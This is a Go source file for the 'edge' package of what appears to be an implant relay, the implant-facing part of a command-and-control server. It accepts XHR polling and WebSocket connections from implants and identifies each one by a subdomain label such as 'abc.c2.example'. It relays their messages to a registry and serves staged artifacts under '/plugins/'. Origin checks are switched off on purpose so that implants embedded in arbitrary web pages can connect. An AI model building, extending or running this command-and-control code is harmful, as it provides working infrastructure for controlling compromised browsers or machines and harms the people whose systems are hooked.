// Package edge exposes the implant-facing HTTP endpoints: XHR polling, a
// WebSocket channel and the static server for staged artifacts.
package edge

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"strings"

	"github.com/gorilla/websocket"

	"github.com/morezero/implant-relay/pkg/implant"
	"github.com/morezero/implant-relay/pkg/message"
)

const logPrefix = "edge:edge"

// Transport names recorded on connections.
const (
	TransportXHR = "xhr"
	TransportWS  = "ws"
)

const (
	defaultServePrefix = "/plugins/"
	maxMessageBytes    = 4 << 20
)

// ErrNoClientID is returned when the Host header carries no implant label.
var ErrNoClientID = errors.New("edge: host header has no client id label")

// Options configures a Server.
type Options struct {
	// ServeDir is the directory of staged artifacts. Empty disables the
	// static route.
	ServeDir string
	// ServePrefix is the URL prefix artifacts are served under.
	ServePrefix string
}

// Server routes implant traffic into an implant.Registry.
type Server struct {
	reg      *implant.Registry
	opts     Options
	upgrader websocket.Upgrader
}

// New creates a Server for reg.
func New(reg *implant.Registry, opts Options) *Server {
	if opts.ServePrefix == "" {
		opts.ServePrefix = defaultServePrefix
	}
	if !strings.HasSuffix(opts.ServePrefix, "/") {
		opts.ServePrefix += "/"
	}
	return &Server{
		reg:  reg,
		opts: opts,
		upgrader: websocket.Upgrader{
			ReadBufferSize:  4096,
			WriteBufferSize: 4096,
			// Implants run inside whatever page loaded them.
			CheckOrigin: func(*http.Request) bool { return true },
		},
	}
}

// Handler returns the mux serving every implant-facing route.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/clients/xhr/", s.handleXHR)
	mux.HandleFunc("/clients/ws/", s.handleWS)
	if s.opts.ServeDir != "" {
		mux.Handle(s.opts.ServePrefix, http.StripPrefix(s.opts.ServePrefix, http.FileServer(http.Dir(s.opts.ServeDir))))
	}
	return mux
}

// ClientID extracts the implant id from a Host header: the first DNS label,
// so "abc.c2.example:8000" is implant "abc".
func ClientID(host string) (string, error) {
	if h, _, err := net.SplitHostPort(host); err == nil {
		host = h
	}
	id, _, _ := strings.Cut(host, ".")
	if id == "" {
		return "", ErrNoClientID
	}
	return id, nil
}

func (s *Server) handleXHR(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		w.Header().Set("Allow", http.MethodPost)
		writeError(w, http.StatusMethodNotAllowed, "method not allowed")
		return
	}

	id, err := ClientID(r.Host)
	if err != nil {
		writeError(w, http.StatusBadRequest, err.Error())
		return
	}

	body, err := io.ReadAll(io.LimitReader(r.Body, maxMessageBytes))
	if err != nil {
		writeError(w, http.StatusBadRequest, "failed to read body")
		return
	}
	m, err := message.Parse(body)
	if err != nil {
		slog.Warn(fmt.Sprintf("%s - Rejected XHR message from %s: %v", logPrefix, id, err))
		writeError(w, http.StatusBadRequest, err.Error())
		return
	}

	s.reg.Register(id, TransportXHR)
	replies, err := s.reg.Prepare(r.Context(), id, m)
	if err != nil {
		slog.Error(fmt.Sprintf("%s - %v", logPrefix, err))
		writeError(w, http.StatusBadGateway, "failed to relay message")
		return
	}

	writeJSON(w, http.StatusOK, nonNil(replies))
}

func (s *Server) handleWS(w http.ResponseWriter, r *http.Request) {
	id, err := ClientID(r.Host)
	if err != nil {
		writeError(w, http.StatusBadRequest, err.Error())
		return
	}

	conn, err := s.upgrader.Upgrade(w, r, nil)
	if err != nil {
		slog.Warn(fmt.Sprintf("%s - WebSocket upgrade for %s failed: %v", logPrefix, id, err))
		return
	}
	defer conn.Close()
	conn.SetReadLimit(maxMessageBytes)

	s.reg.Register(id, TransportWS)
	slog.Info(fmt.Sprintf("%s - WebSocket opened for implant %s", logPrefix, id))

	ctx := r.Context()
	for {
		_, data, err := conn.ReadMessage()
		if err != nil {
			if websocket.IsUnexpectedCloseError(err, websocket.CloseGoingAway, websocket.CloseNormalClosure) {
				slog.Warn(fmt.Sprintf("%s - WebSocket for %s closed: %v", logPrefix, id, err))
			}
			return
		}

		m, err := message.Parse(data)
		if err != nil {
			slog.Warn(fmt.Sprintf("%s - Dropping WebSocket frame from %s: %v", logPrefix, id, err))
			continue
		}

		replies, err := s.reg.Prepare(ctx, id, m)
		if err != nil {
			slog.Error(fmt.Sprintf("%s - %v", logPrefix, err))
			replies = nil
		}
		if err := conn.WriteJSON(nonNil(replies)); err != nil {
			slog.Warn(fmt.Sprintf("%s - WebSocket write to %s failed: %v", logPrefix, id, err))
			return
		}
	}
}

func nonNil(replies []message.Message) []message.Message {
	if replies == nil {
		return []message.Message{}
	}
	return replies
}

func writeJSON(w http.ResponseWriter, status int, v interface{}) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	if err := json.NewEncoder(w).Encode(v); err != nil {
		slog.Error(fmt.Sprintf("%s - failed to write response: %v", logPrefix, err))
	}
}

func writeError(w http.ResponseWriter, status int, msg string) {
	writeJSON(w, status, map[string]string{"error": msg})
}
